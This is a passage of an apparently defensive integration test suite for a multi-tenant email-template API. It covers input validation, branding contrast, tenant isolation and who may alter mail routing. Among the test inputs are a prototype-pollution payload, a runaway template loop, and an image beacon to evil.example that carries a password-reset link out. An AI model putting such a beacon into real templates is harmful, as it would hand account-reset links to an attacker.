    expect((await app.http.get('/email/templates/account_deleted')).body).toEqual(before);

    const broken = await app.http.post('/email/templates/welcome/preview', { html: '{{ user.name ' });
    expect(broken.status).toBe(422);
    expect(broken.body.field).toBe('html');
    const runaway = await app.http.post('/email/templates/welcome/preview', { text: '{% for i in (1..100000000) %}{{ i }}{% endfor %}' });
    expect(runaway.status).toBe(422);
    expect(runaway.body.field).toBe('text');
    const proto = await app.http.post('/email/templates/welcome/preview', { text: '{{ user.name }}', variables: JSON.parse('{"__proto__": {"polluted": true}}') });
    expect(proto.status).toBe(200);
    expect(proto.body.text).toBe('Ada Lovelace');
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('refuses bodies nested deeper than any input, and strings that are not Unicode, with 422 (not a 500)', async () => {
    const json = { 'content-type': 'application/json' };
    const before = (await app.http.get('/email/templates/welcome')).body;
    const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    const deep = await app.http.request('POST', '/api/v1/email/templates/welcome/preview', { raw: `{"variables":${nested(5000)}}`, headers: json });
    expect(deep.status).toBe(422);
    expect(deep.body).toMatchObject({ code: 'validation_error', field: 'body' });
    const deepQuery = `{"query":"mutation($v: JSONObject) { previewEmailTemplate(templateKey: welcome, input: {variables: $v}) { html } }","variables":{"v":${nested(5000)}}}`;
    const overGraphql = await app.http.request('POST', '/graphql', { raw: deepQuery, headers: json });
    expect(overGraphql.body.errors?.[0]?.extensions).toMatchObject({ code: 'validation_error', field: 'body' });
    const shallow = await app.http.request('POST', '/api/v1/email/templates/welcome/preview', { raw: `{"variables":${nested(20)}}`, headers: json });
    expect(shallow.status).toBe(200);
    // A lone surrogate is valid JSON but no Unicode text: PostgreSQL refuses to store it.
    for (const raw of ['{"subject":"Hi \\ud800","html":"h","text":"t"}', '{"subject":"s","html":"h","text":"t","\\udc00":1}']) {
      const lone = await app.http.request('PUT', '/api/v1/email/templates/welcome', { raw, headers: json });
      expect(lone.status, raw).toBe(422);
      expect(lone.body, raw).toMatchObject({ code: 'validation_error', field: 'body' });
    }
    expect((await app.http.get('/email/templates/welcome')).body).toEqual(before);
  });

  it('a tenant preview uses the tenant’s name and effective branding', async () => {
    await app.http.patch(appPath, { tenancyConfig: { brandingScope: 'tenant' } });
    const t = await app.createTenant('Branded Tenant');
    await app.http.put(inTenant(t, '/branding'), { colors: { primary: '#aa0000' }, logoUrl: 'https://t.test/logo.png' });
    const preview = await app.http.post(inTenant(t, '/email/templates/password_reset/preview'));
    expect(preview.body.html).toContain('background:#aa0000');
    expect(preview.body.html).toContain('<img src="https://t.test/logo.png"');
    expect(preview.body.text).toContain('My application · Branded Tenant');
  });

  it('the built-in mails read in any brand colours: text and the button’s label are derived to read at 4.5:1, as on the pages', async () => {
    // A light brand colour (white on it reads at 1.5:1) and a dark background (the default text on it at 1.1:1).
    const colors = { primary: '#facc15', background: '#000000', text: '#111827' };
    await app.http.put('/branding', { colors });
    try {
      const t = await app.createTenant('Yellow Tenant');
      const readable = (html: string) => {
        const body = /<body style="[^"]*background:(#[0-9a-f]{6});color:(#[0-9a-f]{6})/.exec(html);
        const button = /background:(#[0-9a-f]{6});color:(#[0-9a-f]{6});text-decoration:none/.exec(html);
        expect(body?.[1], html).toBe(colors.background);
        expect(button?.[1], html).toBe(colors.primary);
        // No text faded with opacity, which would undo the contrast.
        expect(html).not.toContain('opacity');
        return { text: contrastRatio(body![1]!, body![2]!), label: contrastRatio(button![1]!, button![2]!) };
      };
      const preview = await app.http.post(inTenant(t, '/email/templates/password_reset/preview'));
      expect(preview.status).toBe(200);
      const previewed = readable(preview.body.html as string);
      expect(previewed.text).toBeGreaterThanOrEqual(4.5);
      expect(previewed.label).toBeGreaterThanOrEqual(4.5);
      // A mail as stored to be sent (the API hides a body that went through a provider).
      const email = `yellow-${Date.now()}@example.com`;
      expect((await app.http.post(inTenant(t, '/invitations'), { email, roleIds: [] })).status).toBe(201);
      const [mail] = await app.sql<{ html_body: string }>('select html_body from email_delivery where to_address = ?', [email]);
      const sent = readable(mail!.html_body);
      expect(sent.text).toBeGreaterThanOrEqual(4.5);
      expect(sent.label).toBeGreaterThanOrEqual(4.5);
    } finally {
      await app.http.put('/branding', {});
    }
  });

  it('a tenant-scoped key acts on its own tenant only; permissions are enforced', async () => {
    await scopes({ emailTemplatesScope: 'tenant', emailProviderScope: 'tenant' });
    const own = await app.createTenant('Key tenant');
    const other = await app.createTenant('Key other tenant');
    const key = await issueTestKey(app, { tenantId: own });
    const appWelcome = (await app.http.get('/email/templates/welcome')).body;

    const put = await key.put('/email/templates/welcome', { subject: 'Mine', html: '<p>Mine</p>', text: 'Mine' });
    expect(put.body).toMatchObject({ subject: 'Mine', source: 'customized' });
    expect((await app.http.get('/email/templates/welcome')).body).toEqual(appWelcome);
    expect((await app.http.get(inTenant(other, '/email/templates/welcome'))).body.source).toBe('inherited');
    expect((await key.get('/email/templates')).body.data.find((t: { key: string }) => t.key === 'welcome').source).toBe('customized');
    const provider = await key.put('/email/provider', SENDGRID);
    expect(provider.body).toMatchObject({ type: 'sendgrid', source: 'customized' });
    expect(await storedSecrets(own)).toEqual({ apiKey: SENDGRID.secrets.apiKey });

    for (const [method, path, body] of [
      ['GET', '/email/provider'],
      ['PUT', '/email/provider', SENDGRID],
      ['DELETE', '/email/provider'],
      ['GET', '/email/templates'],
      ['PUT', '/email/templates/welcome', { subject: 'x', html: 'x', text: 'x' }],
      ['DELETE', '/email/templates/welcome'],
      ['POST', '/email/templates/welcome/preview'],
    ] as const) {
      const response = await key.request(method, `/api/v1${inTenant(other, path)}`, body === undefined ? {} : { body });
      expect(response.status, `${method} ${path}`).toBe(403);
    }
    expect(await storedSecrets(other)).toBeNull();

    const reader = await issueTestKey(app, { tenantId: own, permissions: ['email:read'] });
    expect((await reader.get('/email/templates/welcome')).status).toBe(200);
    expect((await reader.post('/email/templates/welcome/preview')).status).toBe(200);
    expect((await reader.put('/email/templates/welcome', { subject: 'x', html: 'x', text: 'x' })).status).toBe(403);
    expect((await reader.put('/email/provider', SENDGRID)).status).toBe(403);
    expect((await reader.delete('/email/provider')).status).toBe(403);
    const none = await issueTestKey(app, { tenantId: own, permissions: ['branding:read'] });
    expect((await none.get('/email/provider')).status).toBe(403);
    expect((await none.get('/email/templates')).status).toBe(403);
  });

  it('another application’s tenant is not found', async () => {
    const other = await app.bootstrapAnother();
    const foreign = app.as({ apiKey: other.apiKey });
    const theirs = (await foreign.post(`/applications/${other.applicationId}/tenants`, { name: 'Theirs' })).body.id as string;
    expect((await app.http.get(`${appPath}/tenants/${theirs}/email/templates`)).status).toBe(404);
    expect((await app.http.put(`/applications/${other.applicationId}/tenants/${theirs}/email/provider`, SENDGRID)).status).toBe(404);
    expect((await app.http.post(`${appPath}/tenants/${theirs}/email/templates/welcome/preview`)).status).toBe(404);
  });

  it('works over GraphQL with the enum of template keys', async () => {
    await scopes({ emailTemplatesScope: 'tenant' });
    const t = await app.createTenant('GraphQL mail');
    const put = await app.http.graphql(
      `mutation($tenantId: UUID) { putEmailTemplate(tenantId: $tenantId, templateKey: invitation, input: { subject: "Join {{ tenant.name }}", html: "<p>{{ inviter.name }}</p>", text: "{{ inviter.name }}" }) { key subject source } }`,
      { tenantId: t },
    );
    expect(put.body.data.putEmailTemplate).toEqual({ key: 'invitation', subject: 'Join {{ tenant.name }}', source: 'customized' });
    const preview = await app.http.graphql(
      `mutation($tenantId: UUID) { previewEmailTemplate(tenantId: $tenantId, templateKey: invitation, input: { variables: { inviter: { name: "Linus" } } }) { subject html } }`,
      { tenantId: t },
    );
    expect(preview.body.data.previewEmailTemplate).toEqual({ subject: 'Join GraphQL mail', html: '<p>Linus</p>' });
    const badKey = await app.http.graphql('query($k: EmailTemplateKey!) { emailTemplate(templateKey: $k) { key } }', { k: 'nope' });
    expect(badKey.status).toBe(422);
    expect(badKey.body.errors?.[0]?.extensions).toMatchObject({ code: 'validation_error', field: 'templateKey', status: 422 });
    await scopes({ emailTemplatesScope: 'application' });
    const disabled = await app.http.graphql(
      `mutation($tenantId: UUID) { putEmailTemplate(tenantId: $tenantId, templateKey: welcome, input: { subject: "s", html: "h", text: "t" }) { key } }`,
      { tenantId: t },
    );
    expect(disabled.body.errors?.[0]?.extensions).toMatchObject({ code: 'tenant_customization_disabled', status: 409 });
    const remove = () => app.http.graphql(`mutation($tenantId: UUID) { removeEmailTemplateOverride(tenantId: $tenantId, templateKey: invitation) }`, { tenantId: t });
    expect((await remove()).body.errors?.[0]?.extensions).toMatchObject({ code: 'tenant_customization_disabled', status: 409 });
    await scopes({ emailTemplatesScope: 'tenant' });
    expect((await remove()).body.data).toEqual({ removeEmailTemplateOverride: true });
  });
});

describe('who may change where mail goes', () => {
  const RESET = { subject: 'Reset', html: '<p><a href="{{ link }}">Reset</a></p>', text: 'Reset: {{ link }}' };

  it('beside an app_admin user, a key holding email:write alone may not change the provider or a mail carrying a way in (403, nothing stored); other mails it may', async () => {
    const other = await app.bootstrapAnother();
    const admin = app.as({ apiKey: other.apiKey });
    const boss = await admin.post('/users', { email: 'boss@mail-owner.test' });
    expect(boss.status, JSON.stringify(boss.body)).toBe(201);
    await new TestRoles(app, other.applicationId).assign({ type: 'user', id: boss.body.id as string }, 'app_admin');
    const key = await admin.post('/api-keys', { name: 'Mailer', permissions: ['email:read', 'email:write'] });
    const mailer = app.as({ apiKey: key.body.secret as string });

    const provider = await mailer.put('/email/provider', SMTP);
    expect(provider.status).toBe(403);
    expect(provider.body.code).toBe('forbidden');
    expect((await mailer.get('/email/provider')).body.type).toBe('gatehouse');
    for (const templateKey of ['password_reset', 'magic_link', 'email_otp', 'verify_email', 'invitation', 'email_change']) {
      const template = templateKey === 'email_otp' ? { ...RESET, html: '<p>{{ code }}</p>', text: '{{ code }}' } : RESET;
      expect((await mailer.put(`/email/templates/${templateKey}`, template)).status, templateKey).toBe(403);
    }
    expect((await mailer.get('/email/templates/password_reset')).body.subject).not.toBe('Reset');
    expect((await mailer.put('/email/templates/welcome', { subject: 'Hi', html: '<p>Hi</p>', text: 'Hi' })).status).toBe(200);

    expect((await admin.put('/email/provider', SMTP)).status).toBe(200);
    expect((await admin.put('/email/templates/password_reset', RESET)).status).toBe(200);
  });

  it('the notices that carry a password reset link are ways in too: password_changed, mfa_enrolled, new_sign_in, account_locked (403, nothing stored)', async () => {
    const other = await app.bootstrapAnother();
    const admin = app.as({ apiKey: other.apiKey });
    const boss = await admin.post('/users', { email: 'boss@notice-owner.test' });
    await new TestRoles(app, other.applicationId).assign({ type: 'user', id: boss.body.id as string }, 'app_admin');
    const key = await admin.post('/api-keys', { name: 'Mailer', permissions: ['email:read', 'email:write'] });
    const mailer = app.as({ apiKey: key.body.secret as string });
    // A beacon would hand the reset link to whoever wrote the template, as soon as the recipient's client shows images.
    const beacon = { subject: 'Notice', html: '<p>Notice</p><img src="https://evil.example/b?l={{ link | url_encode }}">', text: 'Notice' };
    for (const templateKey of ['password_changed', 'mfa_enrolled', 'new_sign_in', 'account_locked']) {
      const refused = await mailer.put(`/email/templates/${templateKey}`, beacon);
      expect([refused.status, refused.body.code], templateKey).toEqual([403, 'forbidden']);
      const stored = await admin.get(`/email/templates/${templateKey}`);
      expect(stored.body.html, templateKey).not.toBe(beacon.html);
      expect(stored.body.updatedAt, templateKey).toBeNull();
    }
    // A mail with no way in stays the key's to write.
    expect((await mailer.put('/email/templates/account_deleted', { subject: 'Bye', html: '<p>Bye</p>', text: 'Bye' })).status).toBe(200);
    expect((await admin.put('/email/templates/account_locked', beacon)).status).toBe(200);
  });

  it('a tenant’s administrator sets the tenant’s own provider unless a member of it holds more application-wide', async () => {
    const other = await app.bootstrapAnother();
    const admin = app.as({ apiKey: other.apiKey });
    const path = `/applications/${other.applicationId}`;
    expect((await admin.patch(path, { tenancyConfig: { emailProviderScope: 'tenant' } })).status).toBe(200);
    const tenantWith = async (slug: string, email: string) => {
      const tenantId = (await admin.post(`${path}/tenants`, { name: slug, slug })).body.id as string;
      const user = (await admin.post(`${path}/tenants/${tenantId}/users`, { email })).body.id as string;
      const key = await admin.post('/api-keys', { name: `${slug} admin`, permissions: ['email:read', 'email:write', 'tenant_overrides:write'], tenantId });
      expect(key.status, JSON.stringify(key.body)).toBe(201);
      return { tenantId, user, tenantAdmin: app.as({ apiKey: key.body.secret as string }) };
    };
    const acme = await tenantWith('acme', 'boss@acme.test');
    await new TestRoles(app, other.applicationId).assign({ type: 'user', id: acme.user }, 'app_admin');
    const globex = await tenantWith('globex', 'member@globex.test');

    expect((await acme.tenantAdmin.put(`${path}/tenants/${acme.tenantId}/email/provider`, SMTP)).status).toBe(403);
    expect((await admin.get(`${path}/tenants/${acme.tenantId}/email/provider`)).body.source).toBe('inherited');
    expect((await globex.tenantAdmin.put(`${path}/tenants/${globex.tenantId}/email/provider`, SMTP)).status).toBe(200);
    expect((await admin.put(`${path}/tenants/${acme.tenantId}/email/provider`, SMTP)).status).toBe(200);
  });

  it('a member’s roles count where they hold: another tenant’s administrator of a shared member may not set this tenant’s provider, nor a key holding here alone what the member holds application-wide', async () => {
    const other = await app.bootstrapAnother();
    const admin = app.as({ apiKey: other.apiKey });
    const path = `/applications/${other.applicationId}`;
    expect((await admin.patch(path, { tenancyConfig: { emailProviderScope: 'tenant' } })).status).toBe(200);
    const roles = new TestRoles(app, other.applicationId);
    const tenant = async (slug: string) => (await admin.post(`${path}/tenants`, { name: slug, slug })).body.id as string;
    const [acme, globex] = [await tenant('acme'), await tenant('globex')];
    const keyIn = async (tenantId: string, permissions: string[]) => {
      const key = await admin.post('/api-keys', { name: 'globex admin', permissions, tenantId });
      expect(key.status, JSON.stringify(key.body)).toBe(201);
      return app.as({ apiKey: key.body.secret as string });
    };
    const globexAdmin = await keyIn(globex, ['email:read', 'email:write', 'tenant_overrides:write', 'users:*']);
    const provider = `${path}/tenants/${globex}/email/provider`;
    // A member of both, administrator of acme alone: globex's mail reaches them, and through them acme.
    const boss = (await admin.post(`${path}/tenants/${globex}/users`, { email: 'boss@both.test' })).body.id as string;
    expect((await admin.patch(`/users/${boss}`, { tenantIds: [acme, globex] })).status).toBe(200);
    await roles.assign({ type: 'user', id: boss }, 'tenant_admin', acme);
    const refused = await globexAdmin.put(provider, SMTP);
    expect(refused.status).toBe(403);
    expect(refused.body).toMatchObject({ code: 'forbidden', message: expect.stringContaining('where they hold it') });
    expect((await admin.get(provider)).body.source).toBe('inherited');
    // Held in globex alone, what the member holds application-wide is held in no other tenant.
    await app.sql('delete from role_assignment where application_id = ? and subject_id = ?', [other.applicationId, boss]);
    await roles.assign({ type: 'user', id: boss }, await roles.create('user_reader', ['users:read']));
    expect((await globexAdmin.put(provider, SMTP)).status).toBe(403);
    expect((await admin.get(provider)).body.source).toBe('inherited');
    // The same role held in globex is globex's administrator's to cover.
    await app.sql('delete from role_assignment where application_id = ? and subject_id = ?', [other.applicationId, boss]);
    await roles.assign({ type: 'user', id: boss }, 'user_reader', globex);
    expect((await globexAdmin.put(provider, SMTP)).status).toBe(200);
  });
});
